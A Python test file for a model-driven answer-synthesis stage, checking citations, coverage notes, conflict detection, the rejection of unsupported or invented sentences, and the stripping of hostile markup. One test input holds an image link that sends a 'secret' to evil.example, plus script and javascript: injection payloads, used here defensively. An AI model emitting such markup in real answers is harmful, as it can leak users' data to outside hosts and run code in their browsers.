from adaq_core.model import AspectCoverage
from adaq_core.stages.synthesise import synthesise_by_model
from tests.stages.advised import ABOUT_COFFEE, ABOUT_TEA, COFFEE, QUESTION, TEA, fallbacks, finding, gateway, prompts

TEA_LINE = "Tea is a drink made of leaves [1]."
COFFEE_LINE = "Coffee is a drink made of roasted beans [2]."
FOUND = [finding(ABOUT_TEA, TEA, 0.9), finding(ABOUT_COFFEE, COFFEE, 0.9)]


def written(text, tea=0.9, coffee=0.9):
    asking = gateway(text)
    coverage = AspectCoverage([ABOUT_TEA, ABOUT_COFFEE], {"Definition of tea": tea, "Definition of coffee": coffee})
    made = synthesise_by_model(
        QUESTION, coverage, [TEA, COFFEE], FOUND, asking, threshold=0.5, queries={"Definition of coffee": ["beans"]}
    )
    return made, asking


def test_sentences_belong_to_the_aspect_of_their_heading_and_cite_the_passage():
    made, asking = written(f"**Definition of tea**\n\n{TEA_LINE}\n\n**Definition of coffee**\n\n{COFFEE_LINE}")
    assert [(s.text, s.aspect, s.citations) for s in made.answer.statements] == [
        ("Tea is a drink made of leaves.", "Definition of tea", (1,)),
        ("Coffee is a drink made of roasted beans.", "Definition of coffee", (2,)),
    ]
    assert [c.passage_id for c in made.answer.citations] == ["p1", "p2"]
    assert (made.answer.not_covered, made.check.checked, fallbacks(asking)) == ((), 2, [])


def test_without_headings_the_aspect_is_that_of_the_finding():
    made, _ = written(f"{TEA_LINE} {COFFEE_LINE}")
    assert [s.aspect for s in made.answer.statements] == ["Definition of tea", "Definition of coffee"]


def test_passages_are_numbered_blocks_and_the_rules_come_last():
    _, asking = written(TEA_LINE)
    assert '<passage n="2" title="Coffee">' in prompts(asking)[0]
    assert prompts(asking)[0].endswith("no links, no images.")


def test_what_is_not_covered_is_added_by_code():
    made, _ = written(TEA_LINE, coffee=0.2)
    assert [(m.aspect, m.queries) for m in made.answer.not_covered] == [("Definition of coffee", ("beans",))]
    nearest = "the nearest, “Coffee”, has these words, but no sentence that answers"
    assert made.answer.text.endswith(f"**Not covered**\n\n- Definition of coffee: {nearest}; tried: “beans”")


def test_a_covered_aspect_that_the_answer_leaves_out_is_named():
    made, _ = written(TEA_LINE)
    assert [m.reason for m in made.answer.not_covered] == [
        "a passage covers it, but no supported sentence of the answer speaks of it"
    ]


def test_a_sentence_without_support_is_marked_and_counted():
    made, _ = written(f"{TEA_LINE} {COFFEE_LINE} Coffee was invented in 1492 by Columbus [2].")
    assert [s.supported for s in made.answer.statements] == [True, True, False]
    assert made.check.unsupported == 1


def test_numbers_that_are_not_in_the_evidence_are_dropped():
    made, _ = written(f"{TEA_LINE} {COFFEE_LINE} Tea has less caffeine than coffee [7].")
    assert made.check.dropped == 1
    assert {c.passage_id for c in made.answer.citations} == {"p1", "p2"}


def test_mostly_invented_text_is_not_used():
    made, asking = written("Gold is at 4,000 dollars. Buy it now. Sell tomorrow [1].")
    assert made is None
    assert fallbacks(asking) == [
        ("only 0 of 3 sentences are supported by what they cite", "an answer of quoted sentences")
    ]


def test_links_images_and_markup_are_taken_out():
    bad = (
        f"{TEA_LINE} ![x](http://evil.example/?q=secret) {COFFEE_LINE}\n<script>alert(1)</script>\n"
        "See [here](javascript:alert(2)) or www.evil.example.\n\n## Sources\n\n[1]: http://evil.example"
    )
    made, asking = written(bad)
    for trace in ("evil", "script", "http", "Sources", "](", "<"):
        assert trace not in made.answer.text, trace
    assert fallbacks(asking)[0][0] == "links, images or markup were taken out"


def test_empty_json_or_thoughts_only_leave_the_quoted_sentences():
    for reply in ("", "   ", '{"answer": "tea"}', "<think>hm</think>", "```\n```"):
        made, asking = written(reply)
        assert made is None, reply
        assert [used for _, used in fallbacks(asking)] == ["an answer of quoted sentences"]


def test_an_endless_reply_is_cut():
    made, asking = written(f"{TEA_LINE}\n" * 1000)
    assert len(made.answer.text) < 13_000
    assert "it was cut" in fallbacks(asking)[0][0]


def test_conflicts_are_found_by_code():
    other = type(COFFEE)("p2", "d2", "Coffee", "A cup of coffee holds 95 mg of caffeine.")
    third = type(COFFEE)("p1", "d1", "Coffee", "A cup of coffee holds 140 mg of caffeine.")
    asking = gateway("A cup of coffee holds 140 mg of caffeine [1]. A cup of coffee holds 95 mg of caffeine [2].")
    coverage = AspectCoverage([ABOUT_COFFEE], {"Definition of coffee": 0.9})
    made = synthesise_by_model(QUESTION, coverage, [third, other], [], asking, threshold=0.5, queries={})
    assert [c.citations for c in made.answer.conflicts] == [(1, 2)]
    assert "**Sources disagree**" in made.answer.text


def test_without_evidence_nobody_is_asked():
    asking = gateway()
    assert synthesise_by_model(QUESTION, AspectCoverage([]), [], [], asking, threshold=0.5, queries={}) is None
    assert asking.events == []
